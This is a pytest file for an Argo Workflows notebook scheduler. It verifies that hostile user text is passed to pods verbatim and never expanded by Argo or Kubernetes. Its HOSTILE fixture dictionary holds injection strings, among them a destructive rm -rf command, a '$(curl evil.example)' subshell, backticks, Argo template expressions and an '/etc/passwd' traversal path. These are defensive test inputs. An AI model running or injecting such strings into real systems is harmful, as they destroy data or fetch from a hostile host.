"""Every field of user text, filled with hostile text, through the builder: what Argo and the pod get.

Argo substitutes `{{...}}` throughout a workflow's spec (templates, pod
metadata, workflowMetadata), and Kubernetes expands `$(VAR)` in a
container's args; neither may ever read the user's text. The corpus is
deterministic, one case per (field, text), for Workflows and CronWorkflows.
"""

from __future__ import annotations

import re

import pytest
from support.samples import sample_definition, sample_job

from argo_scheduler.engines.local import cron as local_cron, manifest as local_manifest
from argo_scheduler.engines.local.expr import templating
from argo_scheduler.engines.base import EngineError
from argo_scheduler.podspec.hostpath import HostPathPodSpecMutator
from argo_scheduler.spec import RunSpec
from argo_scheduler.workflow import (
    CRON_NAME_MAX,
    RUNTIME_COMMAND,
    SPEC_PARAMETER,
    BuildContext,
    build_cron_workflow,
    build_workflow,
    to_manifest,
)

HOSTILE = {
    "squote": "it's'; rm -rf / #",
    "dquote": '"quoted" \\"escaped\\" \\',
    "subshell": "$(curl evil.example) ${HOME} $$ $(VAR)",
    "backticks": "`id` ``",
    "newlines": "line\nbreak\r\n\ttab\x0b",
    "argo-tag": "{{workflow.name}}",
    "argo-expression": "{{=sprig.repeat(3,'x')}}",
    "unterminated": "before {{ after",
    "closing-only": "}} {{}} {",
    "escaped-lookalike": "%7B%7Bworkflow.name%7D%7D %25",
    "unicode": "Zoë 日本語 ünïcødé 🚀 \u200b",
    "long": ("{{x" * 3334)[:10000],
    "traversal": "../../etc/passwd",
}
FIELDS = ("name", "notebook", "owner", "parameter-key", "parameter-value", "tag")
CASES = [(field, text_id) for field in FIELDS for text_id in HOSTILE]

STAGING = "/home/jovyan/.local/share/jupyter/scheduler_staging_area"
# The only tags the builder writes, and so the only ones a manifest may hold.
BUILDER_TAGS = {
    f"workflow.parameters.{SPEC_PARAMETER}", "workflow.name", "workflow.uid",
    "workflow.status", "workflow.failures", "retries",
}
LABEL_VALUE = re.compile(r"(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?")
DNS_NAME = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?")


def inputs(field: str, text: str) -> dict:
    """The job's user text, `text` in `field` and plain elsewhere."""
    values = {"name": "report", "notebook": "report.ipynb", "owner": "jovyan", "parameters": {"n": "2"}, "tags": ["t"]}
    if field == "name":
        values["name"] = text
    elif field == "notebook":
        values["notebook"] = text + ".ipynb"
    elif field == "owner":
        values["owner"] = text
    elif field == "parameter-key":
        values["parameters"] = {text: "1", "n": "2"}
    elif field == "parameter-value":
        values["parameters"] = {"n": text}
    else:
        values["tags"] = [text, "t"]
    return values


def render(kind: str, values: dict, hostpath: bool = True) -> dict:
    # With the hostpath mutator, whose default mounts carry the owner into the spec's volumes
    # (which the local engine does not run: it gets the manifest without).
    mutations = [HostPathPodSpecMutator().mutate] if hostpath else []
    context = BuildContext(
        staging_path=STAGING, image="quay.io/jupyter/scipy-notebook:2026-11-01", owner=values["owner"],
        namespace="jupyter", db_url="sqlite:////home/jovyan/scheduler.sqlite", pod_mutations=mutations,
    )
    fields = dict(name=values["name"], input_filename=values["notebook"], parameters=values["parameters"],
                  tags=values["tags"], output_formats=["ipynb", "html"])
    if kind == "Workflow":
        return to_manifest(build_workflow(sample_job(**fields), context))
    return to_manifest(build_cron_workflow(sample_definition(**fields), context))


def strings_with_paths(value, path=""):
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield f"{path}.{key}", key
            yield from strings_with_paths(item, f"{path}.{key}")
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from strings_with_paths(item, f"{path}[{i}]")


def templated(manifest: dict) -> dict:
    """Where Argo substitutes: the whole spec (for a CronWorkflow, what becomes each run's spec and metadata)."""
    return manifest["spec"]


def tags_by_path(manifest: dict) -> dict[str, str]:
    return {path: text for path, text in strings_with_paths(templated(manifest)) if "{{" in text}


def run_spec(manifest: dict) -> RunSpec:
    spec = manifest["spec"].get("workflowSpec", manifest["spec"])
    [parameter] = spec["arguments"]["parameters"]
    return RunSpec.from_json(parameter["value"])


@pytest.mark.parametrize("kind", ["Workflow", "CronWorkflow"])
@pytest.mark.parametrize("field, text_id", CASES, ids=[f"{f}-{t}" for f, t in CASES])
def test_hostile_user_text_reaches_the_pod_exactly_and_argo_never_reads_it(kind, field, text_id, argo_schema_validator):
    # GIVEN a job (or schedule) with hostile text in one user field
    values = inputs(field, HOSTILE[text_id])
    # WHEN it is rendered
    manifest = render(kind, values)
    baseline = render(kind, inputs("name", "report"))

    # THEN Argo's schema accepts the manifest
    argo_schema_validator(manifest)
    # AND its name is DNS-1123 and fits Argo's limit, and every label is a valid label value
    name = manifest["metadata"]["name"]
    assert DNS_NAME.fullmatch(name) and len(name) <= (63 if kind == "Workflow" else CRON_NAME_MAX)
    for path, labels in [("metadata", manifest["metadata"].get("labels"))] + [
        (p, v) for p, v in _label_maps(manifest["spec"])
    ]:
        for key, value in (labels or {}).items():
            assert LABEL_VALUE.fullmatch(value) and len(value) <= 63, (path, key, value)

    # AND where Argo substitutes, the only tags are the builder's own, at the same places as for plain text
    found = tags_by_path(manifest)
    assert found == tags_by_path(baseline)
    for path, text in found.items():
        assert set(templating.tag_names(text)) <= BUILDER_TAGS, (path, text)

    # AND every container runs the runtime as argv, never a shell, with the user's text in no argument
    spec = manifest["spec"].get("workflowSpec", manifest["spec"])
    for template in spec["templates"]:
        assert "script" not in template
        if "container" in template:
            container = template["container"]
            assert container["command"] == RUNTIME_COMMAND
            assert all(re.fullmatch(r"[-a-z]+|\{\{[a-z.]+\}\}|\d+", arg) for arg in container["args"]), container["args"]

    # AND the run spec gives the pod the exact inputs back
    decoded = run_spec(manifest)
    assert (decoded.name, decoded.input_filename, decoded.owner) == (values["name"], values["notebook"], values["owner"])
    assert (decoded.parameters, decoded.tags) == (values["parameters"], values["tags"])
    # AND it carries nothing Argo or Kubernetes would expand
    raw = spec["arguments"]["parameters"][0]["value"]
    assert "{{" not in raw and "$" not in raw

    # AND the local engine, which refuses what it would run differently from Argo, accepts it
    local = render(kind, values, hostpath=False)
    if kind == "Workflow":
        local_manifest.parse(local)
    else:
        local_cron.parse(local)


def _label_maps(spec: dict):
    for path, value in (
        ("spec.podMetadata", spec.get("podMetadata")),
        ("spec.workflowMetadata", spec.get("workflowMetadata")),
        ("spec.workflowSpec.workflowMetadata", (spec.get("workflowSpec") or {}).get("workflowMetadata")),
        ("spec.workflowSpec.podMetadata", (spec.get("workflowSpec") or {}).get("podMetadata")),
    ):
        if value:
            yield path, value.get("labels")


def test_user_text_in_the_spec_is_escaped_in_annotations_and_kept_whole_on_the_workflow_object():
    # GIVEN a job whose name is an Argo expression
    manifest = render("Workflow", inputs("name", HOSTILE["argo-expression"]))
    # WHEN rendered THEN the annotations, in the spec's pod metadata as on the object, hold no brace
    for annotations in (manifest["metadata"]["annotations"], manifest["spec"]["podMetadata"]["annotations"]):
        assert annotations["argo-scheduler/job-name"] == "%7B%7B=sprig.repeat(3,'x')%7D%7D"


@pytest.mark.parametrize(
    "where",
    ["podMetadata", "workflowMetadata"],
)
@pytest.mark.parametrize(
    "text, refusal",
    [("{{workflow.name}}", "not supported by the local engine"), ("a {{ b", "cannot find end tag")],
    ids=["tag", "unterminated"],
)
def test_the_local_engine_refuses_a_tag_argo_would_substitute_outside_templates(where, text, refusal):
    # GIVEN a manifest with a template tag where Argo substitutes globals, outside any template
    workflow = render("Workflow", inputs("name", "report"), hostpath=False)
    cron = render("CronWorkflow", inputs("name", "report"), hostpath=False)
    # WHEN the local engine is given it THEN it is refused before anything runs, naming the field
    if where == "podMetadata":
        workflow["spec"]["podMetadata"]["annotations"]["x"] = text
        with pytest.raises(EngineError, match=rf"spec\.podMetadata.*{refusal}"):
            local_manifest.parse(workflow)
        cron["spec"]["workflowSpec"]["podMetadata"]["annotations"]["x"] = text
    else:
        cron["spec"]["workflowMetadata"]["annotations"]["x"] = text
    with pytest.raises(EngineError, match=refusal):
        local_cron.parse(cron)
